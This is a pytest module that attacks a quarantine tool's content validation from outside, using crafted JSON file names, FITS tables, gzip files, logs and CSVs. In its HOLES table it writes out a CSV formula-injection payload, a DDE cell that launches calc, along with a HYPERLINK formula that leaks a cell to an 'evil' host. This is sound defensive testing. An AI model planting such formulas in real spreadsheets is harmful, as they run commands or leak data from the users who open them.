"""Independent black-box attack i on `vmguard vet`'s content claims (issue #13): text,
CSV/TSV, JSON, FITS and gzip under policy/batch.yaml's allow_types, after session 34.

Attacked: what session 34 fixed. Names that announce JSON: the 27 extensions are pinned as
last extensions, but Apache types a name by its rightmost extension that has a type, a
rule vmguard applies to pages (`page.html.en`, `feed.xml.dat` are refused) and not to
JSON (`x.json.dat`, `x.geojson.out`, `x.json.en`, `x.json.utf8`, `x.json.dat.gz` publish
JSON-shaped text whose white space is free; a real Apache 2.4 with Debian's mime.conf,
where installed, confirms the Content-Type). FITS ASCII tables: NaN/INF in mixed case,
`+INF`, `-infinity`, a 3-digit exponent 0, d = 0 forms mixed in Ew.0/Dw.0 and C's `%#.0E`
point (all refused). JSON numbers no serializer writes and once-per-file choices mixed
(refused). Text a client acts on: a CSV with an Excel DDE formula (published). False
rejections: Python's gzip appending a member per session when a session logs nothing
(an empty member beside others), a log line holding Python's repr of `object()`
(`<object object at 0x...>`, the text rule's `<object`), and two the docs choose (tqdm's
nested bars' ESC [A in a job's .err; a log holding nginx's 502 page). A report line: a
refusal's "near byte N" names the start of the 1 MiB read, not the character.
Fixed in session 35 (icfix): the JSON names (served.served_by; JSON_NAMED), the quiet
sessions' empty members, the object() repr, "near byte"; the text encoding choice is
listed in docs/quarantine.md, so its two cases are controls; the DDE cell stays a strict
xfail by design (Threat model: a scanner's job). Fixed in session 36 (textnames): tqdm's
nested bars (their ESC [ A is text); the nginx page in a .log stays refused by design.

Controls: json/orjson/ujson/simplejson/json.tool/jq (64-bit ids too), node's
JSON.stringify, papermill notebooks (pandas HTML, a plotly <script> in strings), pandas with tiny and huge floats (records, table, lines,
double_precision=15), logging in UTF-8 and UTF-16, YAML, LHE with POWHEG's comment and
CDATA, HepMC3, SLHA, Fortran E output, pandas' Excel UTF-16 TSV, BOM, CRLF, QUOTE_ALL,
numpy.savetxt with E-120, GNU gzip --rsyncable, pigz (-1 -6 -9 -11 -i --rsyncable),
Python's gzip with mtime, astropy ASCII tables (non-finite, d = 0, E-324 and D+308) and
compressed images (HCOMPRESS lossy, RICE without dither or with a negative quantize
level, GZIP_2 int32), fitsio's (cfitsio) tables and images where installed, a single
tqdm bar in a job's .err.

Every file is built once, at import (about 3 s of CPU), and all go into one quarantine vetted
ONCE through the CLI with the shipped allow_types (scanners off, per-file promotion). A
hit is a strict xfail (HOLES, FALSE_REJECTIONS) whose reason says what got out or was
refused.
"""

from __future__ import annotations

import gzip
import hashlib
import json
import tempfile
import time
from pathlib import Path

import pytest

pytest.importorskip("astropy.io.fits")
pytest.importorskip("pandas")
pytest.importorskip("orjson")
pytest.importorskip("ujson")
pytest.importorskip("simplejson")

from tests.quarantine.test_attack_independent_dcontent import _policy  # noqa: E402
from tests.quarantine.test_attack_independent_econtent import _vet  # noqa: E402
from tests.support import attack_icontent_apache as apache  # noqa: E402
from tests.support import attack_icontent_files as made  # noqa: E402
from tests.support import attack_icontent_fits as made_fits  # noqa: E402
from tests.support import attack_icontent_gzip as made_gz  # noqa: E402
from tests.support.require import require  # noqa: E402


def _build() -> dict[str, bytes]:
    with tempfile.TemporaryDirectory() as tmp:
        work = Path(tmp)
        files = (
            made.json_name_cases()
            | made.PAGE_BEFORE_LAST
            | made.HTTPD_BEFORE_LAST
            | made.LAST_TYPED
            | made.json_number_cases()
            | made.json_controls(work / "json")
            | made.json_tool_controls(work / "jsontools")
            | made.text_controls(work / "text")
            | made.csv_controls()
            | made.csv_hostile()
            | made.OFFSET_CASES
            | made_gz.gzip_controls(work / "gz")
            | made_gz.gzip_hostile(work / "gzh")
            | made_fits.ascii_controls()
            | made_fits.ascii_hostile()
            | made_fits.comp_controls()
            | made_fits.fitsio_controls(work / "fitsio")
        )
        return files | made.same_text_other_bytes(files)


FILES = _build()


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("attack-icontent")
    start = time.monotonic()
    vetted = _vet(base, "content", FILES, _policy())
    return {**vetted, "seconds": time.monotonic() - start}


# Fixed (session 35, icfix): served.served_by is the one answer to "which extension does a
# server type this name by", for pages, JSON names and gunzip's names; these are refused.
_GEO, _JSON = "application/geo+json", "application/json"
JSON_NAMED: dict[str, str] = {  # name -> the JSON type Apache sends it as (gunzip's name for a .gz)
    "apache-multi.json.dat": _JSON,
    "apache-multi.geojson.out": _GEO,
    "apache-lang.json.en": _JSON,
    "apache-charset.json.utf8": _JSON,
    "apache-multi.webmanifest.1": "application/manifest+json",
    "apache-upper.JSON.dat": _JSON,
    "apache-dots.json..dat": _JSON,
    "gz-loose.geojson.en.gz": _GEO,
    "gz-loose.json.dat.gz": _JSON,
}
HOLES: dict[str, str] = {
    "csv-dde-formula.csv": "published: a .csv whose cell is =cmd|' /C calc'!A0; Excel evaluates a cell "
    "starting = as a formula when it opens a .csv (this DDE launch asks first and is off by default in "
    'Microsoft 365 since 2023; =HYPERLINK("http://evil/?"&A1) leaks a cell on one click): text a client '
    "treats as active content; by design: docs/quarantine.md's Threat model says a cell's formula is data to "
    "vet, the scanners' job (a YARA rule on .csv), and its 'JSON and text: what exactness leaves' that a "
    "formula is a valid cell vmguard does not judge",
}
# Fixed in session 36 (textnames): tqdm's cursor-up ESC [ A is text (validators/text.py
# CURSOR_UP; every other escape still refused: test_text_cursor_up.py), so
# ctl-train-nested-4243.err is published.
FALSE_REJECTIONS: dict[str, str] = {
    "ctl-log-http-502.log": "refused (type-not-allowed: text/html, libmagic's guess) by design: a .log whose "
    "line holds the nginx 502 page requests' HTTPError carried; were libmagic to say text/plain, the text rule "
    "refuses its <html and <body anywhere in a file whatever libmagic says (docs/quarantine.md: no markup a "
    "browser would run anywhere in text), and a .log is not served as text/plain: Debian's mime.types types "
    "no .log (only httpd's own table does), so Apache sends no type and a browser sniffs the bytes",
}


def _case(name: str, table: dict[str, str]):
    if name in table:
        return pytest.param(name, marks=pytest.mark.xfail(strict=True, reason=table[name]))
    return name


def _names(controls: bool) -> list[str]:
    chosen = [n for n in FILES if n.startswith("ctl") == controls and n not in made.LAST_TYPED]
    return sorted(chosen)


@pytest.mark.parametrize("name", [_case(n, FALSE_REJECTIONS) for n in _names(True)])
def test_real_output_is_published_byte_identical(run, name):
    entry = run["entries"][name]
    assert entry["verdict"] == "accepted", entry
    published = (run["out"] / name).read_bytes()
    assert published == FILES[name]
    assert entry["sha256"] == hashlib.sha256(published).hexdigest()


@pytest.mark.parametrize("name", [_case(n, HOLES) for n in _names(False)])
def test_hostile_file_is_not_published(run, name):
    entry = run["entries"][name]
    assert entry["verdict"] != "accepted", entry
    assert entry["reasons"], entry
    assert not (run["out"] / name).exists()


@pytest.mark.parametrize("name", sorted(made.LAST_TYPED))
def test_a_name_whose_last_extension_apache_types_is_judged_by_it(run, name):
    """.txt is the rightmost typed extension in every table: neither JSON nor XML is
    announced, so it publishes (not a hole); the same bytes with .dat after the JSON
    extension are what HOLES hold, with .bak what HTTPD_BEFORE_LAST holds (refused)."""
    assert run["entries"][name]["verdict"] == "accepted", run["entries"][name]


def test_the_json_name_holes_are_json_to_a_client():
    """Why they are refused (JSON_NAMED, holes before session 35): a client's JSON parser
    returns what the compact document holds, so the spaces would be bytes no reader returns."""
    compact = json.loads(json.dumps(json.loads(made.LOOSE_JSON), separators=(",", ":")))
    for name in JSON_NAMED:
        data = FILES[name]
        data = gzip.decompress(data) if name.endswith(".gz") else data
        assert json.loads(data) == compact, name
        assert data != json.dumps(compact).encode(), name


def test_apache_serves_the_json_name_holes_as_json():
    """The claim JSON_NAMED rests on, asked of a real Apache 2.4 with Debian's mime.conf: each
    name (gunzip's inner name for a .gz) is sent as a JSON type, and the names
    rightly published are not."""
    require(apache.available(), "needs apache2-bin (./dev setup installs it)")
    holes = {n.removesuffix(".gz"): n for n in JSON_NAMED}
    with apache.serving([*holes, *made.LAST_TYPED]) as sent:
        for name in holes:
            assert sent[name].split(";")[0].endswith("json"), (name, sent[name])
        for name in made.LAST_TYPED:
            assert not sent[name].split(";")[0].endswith(("json", "xml")), (name, sent[name])


def test_the_encoding_cases_are_one_text():
    """Why they were holes (before session 35, when docs/quarantine.md listed the encoding
    as a choice no reader returns, 2 bits a file): a reader returns one str for all three."""
    text = FILES["ctl-log-utf16.log"].decode("utf-16")
    assert FILES["ctl-log-utf16be-of-utf16.log"].decode("utf-16") == text
    assert FILES["ctl-log-utf8-of-utf16.log"].decode("utf-8") == text
    assert FILES["ctl-log-utf16.log"].startswith(b"\xff\xfe")


def test_the_quiet_session_gzip_is_what_python_reads(run):
    """The append files (refused before session 35 as 'an empty member beside others') are
    sound gzip holding an empty member: Python's gzip returns the logged lines."""
    line = b"2024-12-05 10:00:00,001 INFO run 42 event 17 done\n"
    assert gzip.decompress(FILES["ctl-append-quiet-session.log.gz"]) == line * 2
    assert gzip.decompress(FILES["ctl-append-quiet-first.log.gz"]) == line
    for name in ("ctl-append-quiet-session.log.gz", "ctl-append-quiet-first.log.gz"):
        assert b"\x03\x00" + bytes(8) in FILES[name], name  # zlib's deflate of nothing, CRC 0, size 0
        assert run["entries"][name]["verdict"] == "accepted", run["entries"][name]


@pytest.mark.parametrize("name", sorted(made.OFFSET_CASES))
def test_the_refusal_names_where_the_character_is(run, name):
    """A report line must not lie: 'near byte N' within a line's length of the byte."""
    import re

    detail = run["entries"][name]["detail"]
    near = int(re.search(r"near byte (\d+)", detail).group(1))
    assert abs(near - made.AT) < 4096, detail


def test_the_vet_takes_under_twenty_seconds(run):
    assert run["seconds"] < 20, run["seconds"]
